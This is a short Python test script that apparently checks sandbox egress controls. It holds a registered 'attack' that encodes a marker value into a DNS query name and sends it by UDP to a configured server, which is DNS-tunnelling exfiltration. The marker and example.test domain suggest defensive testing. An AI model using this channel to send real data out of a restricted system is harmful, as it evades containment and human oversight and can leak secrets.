# SPDX-License-Identifier: BSD-2-Clause
"""attacks.py --list | attacks.py NAME: attacks that need no C. As those, they are judged outside."""
import os
import socket
import sys

ATTACKS = {}
MARK = os.environ.get("MARK", "").encode()
PORT = int(os.environ.get("PORT", "0"))
V4, V6 = os.environ.get("V4"), os.environ.get("V6")


def attack(purpose, flags=""):
    def add(function):
        ATTACKS[function.__name__] = (flags, purpose, function)
        return function
    return add


def udp(data, address, family=socket.AF_INET, **options):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(data, address)


@attack("DNS by UDP to a server of one's own: the name carries the data")
def dns_udp_own_server():
    udp(query(MARK), (V4, 53))


def query(*labels, kind=16, number=0x1234):
    name = b"".join(bytes([len(x)]) + x for x in (*labels, b"example", b"test"))
    return (number.to_bytes(2, "big") + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name
            + b"\x00" + kind.to_bytes(2, "big") + b"\x00\x01")


def main():
    if sys.argv[1] == "--list":
        for name, (flags, purpose, _) in ATTACKS.items():
            print(f"{name}\t{flags}\t{purpose}")
        return
    ATTACKS[sys.argv[1]][2]()


if __name__ == "__main__":
    main()
